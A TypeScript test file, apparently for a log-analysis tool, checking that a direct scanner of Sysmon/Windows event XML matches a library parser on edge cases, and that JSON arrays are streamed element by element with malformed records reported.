describe('event XML: the direct scan answers as fast-xml-parser does', () => {
  const tricky: [string, string, 'scan' | 'library'][] = [
    [
      'CDATA',
      '<Event><EventData><Data Name="a"><![CDATA[x<y]]></Data></EventData></Event>',
      'library',
    ],
    [
      'a comment',
      '<Event><EventData><!-- c --><Data Name="a">x</Data></EventData></Event>',
      'library',
    ],
    [
      'an HTML entity',
      '<Event><EventData><Data Name="a">&copy; &amp;copy;</Data></EventData></Event>',
      'library',
    ],
    [
      'a NUL reference',
      '<Event><EventData><Data Name="a">x&#0;y</Data></EventData></Event>',
      'library',
    ],
    [
      'prefixed names',
      '<e:Event xmlns:e="urn:x"><e:EventData><e:Data Name="a">x</e:Data></e:EventData></e:Event>',
      'library',
    ],
    [
      'an element inside Data',
      '<Event><EventData><Data Name="a">x<b>y</b>z</Data></EventData></Event>',
      'library',
    ],
    [
      'a > inside an attribute',
      '<Event><EventData><Data Name="a>b">x</Data></EventData></Event>',
      'library',
    ],
    ['a missing end tag', '<Event><EventData><Data Name="a">x</EventData></Event>', 'library'],
    [
      'two roots',
      '<Event><EventData><Data Name="a">x</Data></EventData></Event><Event/>',
      'library',
    ],
    [
      'line breaks',
      '<Event><EventData><Data Name="a">1\r\n2\r3&#13;4</Data></EventData></Event>',
      'scan',
    ],
    [
      'references and bare ampersands',
      '<Event><EventData><Data Name="a">a > b &lt;&#65;&#x42; &quot c &amp;#10; &x</Data></EventData></Event>',
      'scan',
    ],
    [
      'single quotes, self-closing data, positional data, repeated names',
      "<DataItem type='x'><EventData><Data Name='a'/><Data>p</Data><Data Name='b'>1</Data><Data Name='b'>2</Data></EventData></DataItem>",
      'scan',
    ],
    [
      'a declaration, namespace and indentation',
      '<?xml version="1.0"?>\n<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">\n <System>\n  <Provider Name="P"/>\n  <EventID Qualifiers="0">3</EventID>\n  <Channel>C</Channel>\n  <Computer>H</Computer>\n  <TimeCreated SystemTime="2024-01-01T00:00:00Z"/>\n </System>\n <UserData><Data Name="u">x</Data></UserData>\n <EventData>\n  <Data Name="a"> spaced </Data>\n </EventData>\n</Event>\n',
      'scan',
    ],
  ]
  for (const [name, text, by] of tricky) {
    test(`${name}: read by the ${by}`, () => {
      const scan = scanEventXml(text)
      if (by === 'library') assert.equal(scan, null)
      else assert.deepEqual(scan, parseEventXml(text))
      assert.deepEqual(readEventXml(text), parseEventXml(text))
    })
  }

  test('line breaks are read as XML reads them', () => {
    const text = tricky.find(([name]) => name === 'line breaks')?.[1] ?? ''
    assert.equal(readEventXml(text).data.a, '1\n2\n3\r4')
  })

  test('every Sysmon for Linux message of the sample, and the fixtures', async (t) => {
    const texts: string[] = []
    const rows = JSON.parse(await readFile(join(FIXTURES, 'azure-event-array.json'), 'utf8')) as {
      EventData?: string
    }[]
    for (const row of rows) {
      if (row.EventData && !row.EventData.includes('DOCTYPE')) texts.push(row.EventData)
    }
    const syslog = await readFile(join(FIXTURES, 'azure-syslog.json'), 'utf8')
    for (const line of syslog.trim().split('\n')) {
      const message = (JSON.parse(line) as { SyslogMessage: string }).SyslogMessage
      if (message.startsWith('<Event')) texts.push(message)
    }
    const file = requireSharedData(
      t,
      'logs/azure-monitor/syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json',
    )
    let scanned = 0
    if (file) {
      for (const line of (await readFile(file, 'utf8')).trim().split('\n')) {
        texts.push((JSON.parse(line) as { SyslogMessage: string }).SyslogMessage)
      }
    }
    for (const text of texts) {
      const scan = scanEventXml(text)
      if (scan !== null) {
        scanned++
        assert.deepEqual(scan, parseEventXml(text), text)
      }
    }
    // One sample message is cut short by syslog; only the library reads what is left of it.
    assert.equal(scanned, texts.length - (file ? 1 : 0))
  })
})

describe('JSON arrays are read element by element', () => {
  const objects = [
    { Type: 'VMConnection', s: 'a"b\\', t: '[{]}', u: 'é😀', n: [1, { x: '}' }] },
    { Type: 'VMConnection', SourceIp: '10.0.0.9' },
  ]
  const text =
    `\uFEFF [\n  ${JSON.stringify(objects[0])},\n  42,\n  "str\\"ing]",\n  null ,\n` +
    `  ${JSON.stringify(objects[1])}\n]\n`
  const bytes = Buffer.from(text, 'utf8')

  for (const size of [1, 2, 3, 5, 7, 64, 1 << 20]) {
    test(`in chunks of ${size} bytes: records, lines and scalars as JSON.parse sees them`, async () => {
      const chunks: Buffer[] = []
      for (let i = 0; i < bytes.length; i += size) chunks.push(bytes.subarray(i, i + size))
      const input: LogInput = {
        name: 'chunked.json',
        size: bytes.length,
        named: true,
        open: async () => Readable.from(chunks),
      }
      const records: [unknown, number, number | null][] = []
      const broken: unknown[] = []
      let seen = 0
      await forEachJsonRecord(
        input,
        { event: () => undefined, broken: (at, reason) => broken.push({ ...at, reason }) },
        (record, recordNo, line) => records.push([record, recordNo, line]),
        (n) => {
          seen += n
        },
      )
      assert.deepEqual(records, [
        [objects[0], 1, 2],
        [objects[1], 5, 6],
      ])
      assert.deepEqual(broken, [
        { line: 3, record: 2, reason: 'not a JSON object' },
        { line: 4, record: 3, reason: 'not a JSON object' },
        { line: 5, record: 4, reason: 'not a JSON object' },
      ])
      assert.equal(seen, bytes.length)
    })
  }

  test('text after the closing bracket and a missing closing bracket are reported', async () => {
    const read = async (body: string) => {
      const input: LogInput = {
        name: 'x.json',
        size: body.length,
        named: true,
        open: async () => Readable.from([Buffer.from(body)]),
      }
      const broken: unknown[] = []
      let count = 0
      await forEachJsonRecord(
        input,
        { event: () => undefined, broken: (at, reason) => broken.push({ ...at, reason }) },
        () => {
          count++
        },
      )
      return { count, broken }
    }
    assert.deepEqual(await read('[{"a":1}]\n{"b":2}'), {
      count: 1,
      broken: [{ line: 2, reason: 'text after the closing ] of the array' }],
    })
    assert.deepEqual(await read('[{"a":1},\n{"b":2}\n'), {
      count: 2,
      broken: [{ line: 3, reason: 'the array has no closing ]' }],
    })
    assert.deepEqual(await read('[]'), { count: 0, broken: [] })
  })
})
